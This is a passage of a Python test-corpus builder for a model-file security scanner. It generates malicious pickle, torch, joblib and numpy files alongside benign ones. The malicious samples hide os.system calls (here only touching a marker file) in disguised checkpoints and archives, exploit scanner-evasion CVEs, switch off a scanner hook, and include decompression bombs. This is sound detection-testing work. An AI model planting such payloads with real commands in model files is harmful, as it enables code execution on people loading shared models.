    data = magic + _legacy_header() + pickle.dumps(OrderedDict(), protocol=2) + pickle.dumps([], protocol=2)
    return write(directory, "magic_eval.pt", data)


def torch_legacy_tar(directory: Path, marker: Path) -> Path:
    """torch <= 0.1.10's tar format, still read by torch.load: it unpickles the `storages` member first."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "storages": posix_system_p4(marker),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps(OrderedDict(), protocol=2),
    }
    path = directory / "legacy_tar.pt"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def torch_zip_payload(directory: Path, marker: Path) -> Path:
    return torch_zip(directory / "model.pt", posix_system_p4(marker))


def torch_zip_payload_deflated(directory: Path, marker: Path) -> Path:
    return torch_zip(directory / "model_deflated.pt", posix_system_p4(marker), compress=zipfile.ZIP_DEFLATED)


def _benign_data_pkl() -> bytes:
    return pickle.dumps(OrderedDict([("fc.weight", [[0.5, 0.25]]), ("fc.bias", [0.0])]), protocol=2)


def torch_zip_member_bin(directory: Path, marker: Path) -> Path:
    """CVE-2025-1889: a pickle member with a non-pickle extension beside an honest data.pkl.

    torch.load itself only unpickles data.pkl; a custom loader (or a later torch) that reads the extra
    member runs it. Scanners that route by extension never look at it.
    """
    return torch_zip(directory / "member_bin.pt", _benign_data_pkl(), {"extra.bin": posix_system_p4(marker)})


def torch_zip_member_txt(directory: Path, marker: Path) -> Path:
    return torch_zip(directory / "member_txt.pt", _benign_data_pkl(), {"notes.txt": os_system_pickle(marker)})


def torch_zip_member_noext(directory: Path, marker: Path) -> Path:
    return torch_zip(directory / "member_noext.pt", _benign_data_pkl(), {"payload": posix_system_p4(marker)})


def torch_zip_member_storage_name(directory: Path, marker: Path) -> Path:
    """A pickle posing as a tensor storage blob (archive/data/7)."""
    return torch_zip(directory / "storage_name.pt", _benign_data_pkl(), {"data/7": posix_system_p4(marker)})


def zip_bad_crc_payload(directory: Path, marker: Path) -> Path:
    """CVE-2025-10156: bad CRC-32 -- zipfile raises BadZipFile, torch ignores CRCs."""
    return zip_anomaly_sample(directory, marker, "bad_crc_payload.pt", crc_xor=0x5A5A5A5A)


def zip_name_mismatch(directory: Path, marker: Path) -> Path:
    """CVE-2025-1944: the local header names another file than the central directory."""
    return zip_anomaly_sample(directory, marker, "name_mismatch.pt", local_name="archive/data.pkx")


def zip_flag_0x1(directory: Path, marker: Path) -> Path:
    """CVE-2025-1945: flag bits on plain data. zipfile refuses (password / unsupported); torch 2.13's miniz
    refuses them too (the advisory was against older loaders and lenient readers), so these test the
    scanner's leniency, not a live torch.load bypass."""
    return zip_anomaly_sample(directory, marker, "flag_0x1.pt", flags_or=0x1)


def zip_flag_0x20(directory: Path, marker: Path) -> Path:
    return zip_anomaly_sample(directory, marker, "flag_0x20.pt", flags_or=0x20)


def zip_flag_0x40(directory: Path, marker: Path) -> Path:
    return zip_anomaly_sample(directory, marker, "flag_0x40.pt", flags_or=0x40)


def zip_duplicate_names(directory: Path, marker: Path) -> Path:
    """Two members named archive/data.pkl: torch (miniz) reads the first, the payload; zipfile-based
    scanners index by name and keep the last, the benign one."""
    path = directory / "duplicate.pt"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns "Duplicate name"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", posix_system_p4(marker))
            archive.writestr("archive/data.pkl", _benign_data_pkl())
            archive.writestr("archive/version", b"3\n")
    return path


def zip_nested_in_zip(directory: Path, marker: Path) -> Path:
    """A torch checkpoint inside a (deflated) zip: modelscan says 'nested zip not supported'."""
    inner = torch_zip(directory / "inner" / "model.pt", posix_system_p4(marker))
    path = directory / "bundle.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.write(inner, "checkpoints/model.pt")
        archive.writestr("README.md", "weights for the demo\n")
    inner.unlink()
    inner.parent.rmdir()
    return path


def zip_in_tar(directory: Path, marker: Path) -> Path:
    inner = torch_zip(directory / "inner" / "model.pt", posix_system_p4(marker))
    path = directory / "release.tar"
    with tarfile.open(path, "w") as archive:
        archive.add(inner, "release/model.pt")
    inner.unlink()
    inner.parent.rmdir()
    return path


def pickle_in_tar_gz(directory: Path, marker: Path) -> Path:
    raw = posix_system_p4(marker)
    path = directory / "release.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        info = tarfile.TarInfo("release/model.pkl")
        info.size = len(raw)
        archive.addfile(info, io.BytesIO(raw))
    return path


def pickle_gzip(directory: Path, marker: Path) -> Path:
    return write(directory, "model.pkl.gz", gzip.compress(posix_system_p4(marker)))


def pickle_bz2(directory: Path, marker: Path) -> Path:
    return write(directory, "model.pkl.bz2", bz2.compress(posix_system_p4(marker)))


def _joblib_payload(directory: Path, marker: Path, name: str, compress: object) -> Path:
    """joblib.dump of a dict with a numpy array (joblib's inline array bytes) and a payload after it."""
    import os

    import joblib
    import numpy as np

    obj = {"weights": np.arange(1000, dtype=np.float64), "hook": ReduceTo(os.system, shell_touch(marker))}
    path = directory / name
    joblib.dump(obj, path, compress=compress)
    return path


def joblib_plain(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model.joblib", 0)


def joblib_zlib(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model_zlib.joblib", ("zlib", 3))


def joblib_gzip(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model.joblib.gz", ("gzip", 3))


def joblib_bz2(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model.joblib.bz2", ("bz2", 3))


def joblib_lzma(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model.joblib.lzma", ("lzma", 3))


def joblib_xz(directory: Path, marker: Path) -> Path:
    return _joblib_payload(directory, marker, "model.joblib.xz", ("xz", 3))


def pickle_lzma_alone(directory: Path, marker: Path) -> Path:
    return write(directory, "raw.lzma", lzma.compress(posix_system_p4(marker), format=lzma.FORMAT_ALONE))


def npy_object_payload(directory: Path, marker: Path) -> Path:
    """np.save of an object array whose element reduces to os.system: np.load(allow_pickle=True) runs it."""
    import os

    import numpy as np

    array = np.empty(2, dtype=object)
    array[0], array[1] = "label", ReduceTo(os.system, shell_touch(marker))
    path = directory / "objects_payload.npy"
    np.save(path, array, allow_pickle=True)
    return path


def npz_object_payload(directory: Path, marker: Path) -> Path:
    import os

    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = ReduceTo(os.system, shell_touch(marker))
    path = directory / "arrays.npz"
    np.savez(path, weights=np.ones(4, dtype=np.float32), meta=array)
    return path


def pickle_named_txt(directory: Path, marker: Path) -> Path:
    """CVE-2025-10155: extension routing -- a pickle called .txt / .bin / no extension."""
    return write(directory, "weights.txt", posix_system_p4(marker))


def pickle_named_bin(directory: Path, marker: Path) -> Path:
    return write(directory, "pytorch_model.bin", posix_system_p4(marker))


def pickle_no_extension(directory: Path, marker: Path) -> Path:
    return write(directory, "model", os_system_pickle(marker))


# --- benign samples -------------------------------------------------------------------------------


def _torch_model() -> Any:
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 2))


def torch_state_dict_zip(directory: Path, marker: Path) -> Path:
    import torch

    path = directory / "state_dict.pt"
    torch.save(_torch_model().state_dict(), path)
    return path


def torch_state_dict_legacy(directory: Path, marker: Path) -> Path:
    import torch

    path = directory / "state_dict_legacy.pt"
    torch.save(_torch_model().state_dict(), path, _use_new_zipfile_serialization=False)
    return path


def torch_full_module(directory: Path, marker: Path) -> Path:
    """torch.save(model): the classes are pickled too (medium: unknown globals, not code execution)."""
    import torch

    path = directory / "full_model.pt"
    torch.save(_torch_model(), path)
    return path


def lightning_checkpoint(directory: Path, marker: Path) -> Path:
    """The dict PyTorch Lightning saves: hyper_parameters as argparse.Namespace, a datetime, optimizer state."""
    import torch

    model = _torch_model()
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.ones(1, 8)).sum().backward()
    optimizer.step()
    checkpoint = {
        "epoch": 4,
        "global_step": 1200,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": model.state_dict(),
        "optimizer_states": [optimizer.state_dict()],
        "lr_schedulers": [],
        "callbacks": {"ModelCheckpoint": {"best_model_score": torch.tensor(0.91), "monitor": "val_acc"}},
        "hyper_parameters": argparse.Namespace(lr=1e-3, hidden=16, name="demo"),
        "saved_at": datetime.datetime(2025, 3, 1, 12, 30, tzinfo=datetime.timezone.utc),
    }
    path = directory / "epoch=4-step=1200.ckpt"
    torch.save(checkpoint, path)
    return path


def npz_float_arrays(directory: Path, marker: Path) -> Path:
    import numpy as np

    path = directory / "arrays.npz"
    np.savez_compressed(path, w=np.ones((4, 4), dtype=np.float32), b=np.zeros(4, dtype=np.float64))
    return path


def safetensors_file(directory: Path, marker: Path) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    path = directory / "model.safetensors"
    save_file({"fc.weight": np.ones((4, 4), dtype=np.float32), "fc.bias": np.zeros(4, dtype=np.float32)}, path)
    return path


def _sklearn_model() -> Any:
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    features = rng.normal(size=(60, 3))
    return LogisticRegression().fit(features, (features[:, 0] > 0).astype(int))


def sklearn_joblib(directory: Path, marker: Path) -> Path:
    import joblib

    path = directory / "clf.joblib"
    joblib.dump(_sklearn_model(), path)
    return path


def sklearn_joblib_compressed(directory: Path, marker: Path) -> Path:
    import joblib

    path = directory / "clf_compressed.joblib"
    joblib.dump(_sklearn_model(), path, compress=3)
    return path


def sklearn_joblib_xz(directory: Path, marker: Path) -> Path:
    import joblib

    path = directory / "clf.joblib.xz"
    joblib.dump(_sklearn_model(), path, compress=("xz", 3))
    return path


def _plain_data() -> dict[str, object]:
    return {
        "name": "run-7",
        "scores": [0.5, 0.75, 1.0, float("inf")],
        "tags": {"a", "b"},
        "frozen": frozenset({1, 2}),
        "shape": (3, 4),
        "blob": b"\x00\x01binary",
        "raw": bytearray(b"xy"),
        "when": datetime.datetime(2024, 5, 1, 8, 0),
        "day": datetime.date(2024, 5, 1),
        "delta": datetime.timedelta(seconds=90),
        "price": decimal.Decimal("12.50"),
        "ordered": OrderedDict(a=1, b=2),
        "nothing": None,
        "flag": True,
        "big": 2**70,
        "complex": 1 + 2j,
    }


def _plain_pickle(proto: int) -> Builder:
    def build(directory: Path, marker: Path) -> Path:
        return write(directory, f"plain_p{proto}.pkl", pickle.dumps(_plain_data(), protocol=proto))

    build.__name__ = build.__qualname__ = f"plain_pickle_p{proto}"
    return build


def pickle_numpy_values(directory: Path, marker: Path) -> Path:
    """Metrics as numpy scalars and small arrays (numpy's reduce: scalar, dtype, _reconstruct)."""
    import numpy as np

    data = {"acc": np.float64(0.91), "n": np.int32(7), "hist": np.arange(5), "mask": np.array([True, False])}
    return write(directory, "metrics.pkl", pickle.dumps(data, protocol=4))


def pickle_empty_dict(directory: Path, marker: Path) -> Path:
    return write(directory, "empty.pkl", pickle.dumps({}, protocol=4))


def pickle_none(directory: Path, marker: Path) -> Path:
    return write(directory, "none.pkl", pickle.dumps(None, protocol=2))


def zip_of_text(directory: Path, marker: Path) -> Path:
    path = directory / "docs.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.md", "# model card\n")
        archive.writestr("config.json", '{"hidden": 16}')
    return path


def torch_state_dict_tar_gz(directory: Path, marker: Path) -> Path:
    """A release tarball holding a real torch checkpoint."""
    (directory / "inner").mkdir()
    inner = torch_state_dict_zip(directory / "inner", marker)
    path = directory / "release.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        archive.add(inner, "release/state_dict.pt")
    inner.unlink()
    inner.parent.rmdir()
    return path


def hf_style_folder(directory: Path, marker: Path) -> Path:
    """A downloaded model folder: model card prose (ending in '.'), JSON configs, safetensors and a torch .bin."""
    import json

    root = directory / "tiny-model"
    root.mkdir()
    (root / "README.md").write_text(
        "# tiny-model\n\nA two-layer classifier trained for the nbsec demo.\n\n"
        "(c) the authors; see LICENSE. Use at your own risk.\n",
        encoding="utf-8",
    )
    (root / "config.json").write_text(json.dumps({"hidden_size": 16, "num_labels": 2}), encoding="utf-8")
    (root / "generation_config.json").write_text("{}\n", encoding="utf-8")
    safetensors_file(root, marker)
    torch_state_dict_zip(root, marker).rename(root / "pytorch_model.bin")
    return root


# --- detection depth (issue 15): scanner tampering, nested streams, bombs, code-running helpers --------

ART_SCANNER = "NBSEC-ART-014"
ART_NESTED = "NBSEC-ART-015"
ART_SHAPE = "NBSEC-ART-016"
ART_RUNS_CODE = "NBSEC-ART-017"
ART_PACKAGE = "NBSEC-ART-018"


def pickle_scanner_hook(directory: Path, marker: Path) -> Path:
    """fickling.hook.remove_hook(): switches a scanner's load hook off (nothing else)."""
    return write(directory, "unhook.pkl", frame(call(stack_global("fickling.hook", "remove_hook"))))


def pickle_nested_loader_path(directory: Path, marker: Path) -> Path:
    """pickle.load(open(...)) spelled as pickle.loads on a path string: the bytes are not in the file."""
    return write(directory, "nested_path.pkl", frame(call(stack_global("pickle", "loads"), push_str(str(marker)))))


def nested_load_from_bytes(directory: Path, marker: Path) -> Path:
    """torch.storage._load_from_bytes(b'<os.system pickle>'): fickling's nested torch.load bypass."""
    inner = os_system_pickle(marker)
    code = call(stack_global("torch.storage", "_load_from_bytes"), body(inner, 4))
    return write(directory, "nested_bytes.pkl", frame(code))


def nested_pickle_loads_p2(directory: Path, marker: Path) -> Path:
    """pickle.loads(_codecs.encode('<payload>', 'latin1')) at protocol 2: bytes spelled as text."""
    inner = os_system_pickle(marker).decode("latin-1")
    encoded = call(glob("_codecs", "encode"), push_str(inner, 2), push_str("latin1", 2), proto=2)
    return write(directory, "nested_p2.pkl", wrap(call(glob("pickle", "loads"), encoded, proto=2), 2))


def pickle_dup_bomb(directory: Path, marker: Path) -> Path:
    """Billion laughs with DUP: 9 levels of 9 copies, ~10^9 elements from ~100 opcodes."""
    code = pickle.MARK * 9 + push_str("lol") + (pickle.DUP * 8 + pickle.LIST) * 9
    return write(directory, "laughs.pkl", frame(code))


def memo_bomb(directory: Path, marker: Path) -> Path:
    """Billion laughs with the memo only (no DUP): each level GETs the previous one 10 times."""
    code = push_str("lol") + pickle.BINPUT + b"\x00"
    for level in range(10):
        code += pickle.MARK + (pickle.BINGET + bytes([level])) * 10 + pickle.LIST + pickle.BINPUT + bytes([level + 1])
    return write(directory, "memo_laughs.pkl", frame(code))


def pickle_code_reaching_global(directory: Path, marker: Path) -> Path:
    """typing.get_type_hints(obj): not on any denylist, but it evaluates string annotations (eval)."""
    return write(directory, "type_hints.pkl", frame(call(stack_global("typing", "get_type_hints"), push_str("x"))))


def torch_package_code(directory: Path, marker: Path) -> Path:
    """A torch.package layout whose module runs os.system when PackageImporter imports it."""
    path = directory / "packaged.pt"
    source = f"import os\nos.system({shell_touch(marker)!r})\nclass Model:\n    pass\n"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("packaged/mymodel/__init__.py", source)
        archive.writestr("packaged/res/model.pkl", frame(call(stack_global("mymodel", "Model"))))
        archive.writestr("packaged/.data/extern_modules", "")
        archive.writestr("packaged/.data/version", "6\n")
    return path


# --- the corpus ----------------------------------------------------------------------------------------

CRITICAL = {ART_DANGEROUS}

MALICIOUS: dict[str, tuple[Builder, set[str]]] = {
    "pickle_os_system": (pickle_os_system, CRITICAL),
    **{b.__name__: (b, CRITICAL) for b in DENY_CASES},
    "trace_runctx": (trace_runctx, CRITICAL),
    "torch_config_load_config": (torch_config_load_config, CRITICAL),
    "pkgutil_resolve_name": (pkgutil_resolve_name, CRITICAL),
    "importlib_import_module": (importlib_import_module, CRITICAL),
    "builtins_import": (builtins_import, CRITICAL),
    "operator_methodcaller": (operator_methodcaller, CRITICAL),
    "private_operator_methodcaller": (private_operator_methodcaller, CRITICAL),
    "operator_attrgetter": (operator_attrgetter, CRITICAL),
    "functools_partial": (functools_partial, CRITICAL),
    "ctypes_libc_system": (ctypes_libc_system, CRITICAL),
    "code_interactive_interpreter": (code_interactive_interpreter, CRITICAL),
    "socket_unix_bind": (socket_unix_bind, CRITICAL),
    "pydoc_locate": (pydoc_locate, CRITICAL),
    "types_codetype": (types_codetype, CRITICAL),
    "marshal_loads": (marshal_loads, CRITICAL),
    "dill_create_code": (dill_create_code, CRITICAL),
    "cloudpickle_builtin_type": (cloudpickle_builtin_type, CRITICAL),
    # name resolution
    "dotted_pathlib_os_system": (dotted_pathlib_os_system, CRITICAL),
    "dotted_torch_serialization_os": (dotted_torch_serialization_os, CRITICAL),
    "pickle_computed_global": (pickle_computed_global, {ART_COMPUTED}),
    "computed_getattr_name": (computed_getattr_name, {ART_COMPUTED}),
    "memo_binget_module": (memo_binget_module, CRITICAL),
    "memo_overwrite": (memo_overwrite, CRITICAL),
    "string_opcode_stack_global": (string_opcode_stack_global, CRITICAL),
    "text_memo_get": (text_memo_get, CRITICAL),
    "inst_opcode": (inst_opcode, CRITICAL),
    "obj_opcode": (obj_opcode, CRITICAL),
    "obj_then_pop": (obj_then_pop, CRITICAL),
    "newobj_opcode": (newobj_opcode, CRITICAL),
    "newobj_ex_opcode": (newobj_ex_opcode, CRITICAL),
    "build_setstate_gadget": (build_setstate_gadget, CRITICAL),
    "ext1_code": (ext1_code, {ART_COMPUTED}),
    "ext2_code": (ext2_code, {ART_COMPUTED}),
    "ext4_code": (ext4_code, {ART_COMPUTED}),
    # stream differentials
    "frame_mismatch_pickle": (frame_mismatch_pickle, {ART_DANGEROUS, ART_MALFORMED}),
    "frame_mismatch_torch_zip": (frame_mismatch_torch_zip, {ART_DANGEROUS, ART_MALFORMED}),
    "pickle_broken_after_payload": (pickle_broken_after_payload, {ART_DANGEROUS, ART_MALFORMED}),
    "truncated_after_payload": (truncated_after_payload, {ART_DANGEROUS, ART_MALFORMED}),
    "stacked_benign_then_payload": (stacked_benign_then_payload, CRITICAL),
    "protocol0_text": (protocol0_text, CRITICAL),
    "headerless_binary_pickle": (headerless_binary_pickle, CRITICAL),
    "protocol0_trailing_text": (protocol0_trailing_text, CRITICAL),
    "torch_zip_protocol0_open_mark": (torch_zip_protocol0_open_mark, CRITICAL),
    # torch files and containers
    "torch_legacy_payload": (torch_legacy_payload, CRITICAL),
    "torch_legacy_magic_eval": (torch_legacy_magic_eval, CRITICAL),
    "torch_legacy_tar": (torch_legacy_tar, CRITICAL),
    "torch_zip_payload": (torch_zip_payload, CRITICAL),
    "torch_zip_payload_deflated": (torch_zip_payload_deflated, CRITICAL),
    "torch_zip_member_bin": (torch_zip_member_bin, CRITICAL),
    "torch_zip_member_txt": (torch_zip_member_txt, CRITICAL),
    "torch_zip_member_noext": (torch_zip_member_noext, CRITICAL),
    "torch_zip_member_storage_name": (torch_zip_member_storage_name, CRITICAL),
    "zip_bad_crc_payload": (zip_bad_crc_payload, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_name_mismatch": (zip_name_mismatch, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_flag_0x1": (zip_flag_0x1, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_flag_0x20": (zip_flag_0x20, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_flag_0x40": (zip_flag_0x40, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_duplicate_names": (zip_duplicate_names, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_nested_in_zip": (zip_nested_in_zip, {ART_DANGEROUS, ART_ARCHIVE}),
    "zip_in_tar": (zip_in_tar, CRITICAL),
    "pickle_in_tar_gz": (pickle_in_tar_gz, CRITICAL),
    "pickle_gzip": (pickle_gzip, CRITICAL),
    "pickle_bz2": (pickle_bz2, CRITICAL),
    "pickle_lzma_alone": (pickle_lzma_alone, CRITICAL),
    "joblib_plain": (joblib_plain, CRITICAL),
    "joblib_zlib": (joblib_zlib, CRITICAL),
    "joblib_gzip": (joblib_gzip, CRITICAL),
    "joblib_bz2": (joblib_bz2, CRITICAL),
    "joblib_lzma": (joblib_lzma, CRITICAL),
    "joblib_xz": (joblib_xz, CRITICAL),
    "npy_object_payload": (npy_object_payload, {ART_DANGEROUS, ART_OBJECT_ARRAY}),
    "npz_object_payload": (npz_object_payload, {ART_DANGEROUS, ART_OBJECT_ARRAY}),
    "pickle_named_txt": (pickle_named_txt, CRITICAL),
    "pickle_named_bin": (pickle_named_bin, CRITICAL),
    "pickle_no_extension": (pickle_no_extension, CRITICAL),
    # detection depth (issue 15)
    "pickle_scanner_hook": (pickle_scanner_hook, {ART_SCANNER}),
    "pickle_nested_loader_path": (pickle_nested_loader_path, {ART_NESTED}),
    "nested_load_from_bytes": (nested_load_from_bytes, {ART_DANGEROUS, ART_NESTED}),
    "nested_pickle_loads_p2": (nested_pickle_loads_p2, {ART_DANGEROUS, ART_NESTED}),
    "pickle_dup_bomb": (pickle_dup_bomb, {ART_SHAPE}),
    "memo_bomb": (memo_bomb, {ART_SHAPE}),
    "pickle_code_reaching_global": (pickle_code_reaching_global, {ART_RUNS_CODE}),
    "torch_package_code": (torch_package_code, {ART_PACKAGE}),
}
# torch.serialization.load(path): a deserializer whose bytes are not in the file (high, not analysable).
MALICIOUS["deny_torch_serialization_load"] = (MALICIOUS["deny_torch_serialization_load"][0], {ART_NESTED})

BENIGN: dict[str, Builder] = {
    "pickle_state_dict": pickle_state_dict,
    "torch_state_dict_zip": torch_state_dict_zip,
    "torch_state_dict_legacy": torch_state_dict_legacy,
    "torch_full_module": torch_full_module,
    "lightning_checkpoint": lightning_checkpoint,
    "torch_state_dict_tar_gz": torch_state_dict_tar_gz,
    "npy_float_array": npy_float_array,
    "npz_float_arrays": npz_float_arrays,
    "safetensors_file": safetensors_file,
    "sklearn_joblib": sklearn_joblib,
    "sklearn_joblib_compressed": sklearn_joblib_compressed,
    "sklearn_joblib_xz": sklearn_joblib_xz,
    **{f"plain_pickle_p{p}": _plain_pickle(p) for p in range(6)},
    "pickle_numpy_values": pickle_numpy_values,
    "pickle_empty_dict": pickle_empty_dict,
    "pickle_none": pickle_none,
    "zip_of_text": zip_of_text,
    "hf_style_folder": hf_style_folder,
}

# Samples of the rule catalogue that are neither (a lone medium/low finding by design).
# The medium/low rule samples: name -> (builder, the one rule it must trigger, at that rule's severity).
RULE_ONLY: dict[str, tuple[Builder, str]] = {
    "pickle_unknown_class": (pickle_unknown_class, "NBSEC-ART-002"),
    "npy_object_array": (npy_object_array, "NBSEC-ART-005"),
    "zip_bad_crc": (zip_bad_crc, "NBSEC-ART-006"),
}
